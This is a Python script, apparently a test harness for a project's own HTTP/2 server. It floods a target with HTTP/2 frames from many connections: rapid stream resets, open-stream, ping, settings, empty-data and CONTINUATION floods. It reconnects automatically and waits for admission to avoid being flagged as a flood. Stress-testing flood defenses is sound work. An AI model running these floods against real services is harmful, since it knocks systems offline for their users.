"""Floods of HTTP/2 frames, as fast as a program can send them, from peers that never acknowledge settings.

Usage: floods.py HOST PORT SOURCE KIND CONNECTIONS SECONDS; prints how many frames were sent. They come from the address
SOURCE; when a connection ends, another is made.
"""

import contextlib
import socket
import struct
import sys
import threading
import time

import http2

BLOCK = http2.call_fields("MintAccessToken")
BATCH = 100
STUCK = 5  # seconds that nobody takes anything, until another connection is made
FILLER = http2.field("x-filler", b"a" * 1000)
FIRST = 1  # id of a client's first stream


def resets(connection):
    frames = []
    for _ in range(BATCH):
        stream = connection.next_stream()
        frames.append(connection.headers(stream, BLOCK))
        frames.append(http2.frame(http2.RST_STREAM, 0, stream, struct.pack(">I", http2.CANCEL)))
    return b"".join(frames)


def streams(connection):
    return b"".join(connection.headers(connection.next_stream(), BLOCK) for _ in range(BATCH))


def calls(connection):
    """Whole calls, each reset at once."""
    frames = []
    for _ in range(BATCH):
        stream = connection.next_stream()
        frames.append(connection.headers(stream, BLOCK))
        frames.append(http2.frame(http2.DATA, http2.END_STREAM, stream, http2.message(b"")))
        frames.append(http2.frame(http2.RST_STREAM, 0, stream, struct.pack(">I", http2.CANCEL)))
    return b"".join(frames)


def repeated(frame, opening=None):
    """A flood of the same frame, after one that opens the first stream."""

    def batch(connection):
        first = b""
        if opening is not None and connection.stream == FIRST:
            first = http2.frame(http2.HEADERS, opening, connection.next_stream(), BLOCK)
        return first + frame * BATCH

    return batch


WORST = {
    "resets": resets,
    "calls": calls,
    "streams": streams,
    "pings": repeated(http2.frame(http2.PING, 0, 0, bytes(8))),
}
KINDS = {
    **WORST,
    "settings": repeated(http2.frame(http2.SETTINGS, 0, 0, struct.pack(">HI", 4, 65535))),
    "empty_data": repeated(http2.frame(http2.DATA, 0, FIRST), http2.END_HEADERS),
    "continuations": repeated(http2.frame(http2.CONTINUATION, 0, FIRST, FILLER), 0),
}


def read_all(connection):
    with contextlib.suppress(OSError):
        while connection.socket.recv(1 << 16):
            pass


def flood(host, port, source, kind, end):
    """How many batches were sent by then."""
    sent = 0
    while time.monotonic() < end:
        try:
            connection = http2.Connection(host, port, source=source)
        except OSError:
            time.sleep(0.01)
            continue
        # Who has flooded is let in later. A peer that did not wait for that would be known as a flood at once.
        connection.socket.settimeout(max(end - time.monotonic(), 0.01))
        with contextlib.suppress(OSError):
            connection.socket.recv(1)
        connection.socket.settimeout(STUCK)
        reader = threading.Thread(target=read_all, args=(connection,))
        reader.start()
        with contextlib.suppress(OSError):
            while time.monotonic() < end:
                connection.send(KINDS[kind](connection))
                sent += 1
        with contextlib.suppress(OSError):
            connection.socket.shutdown(socket.SHUT_RDWR)
        reader.join()
        connection.close()
    return sent


def main():
    host, port, source, kind, count, seconds = sys.argv[1:]
    end = time.monotonic() + float(seconds)
    sent = []

    def run():
        sent.append(flood(host, int(port), source, kind, end))

    threads = [threading.Thread(target=run) for _ in range(int(count))]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    print(sum(sent) * BATCH)


if __name__ == "__main__":
    main()
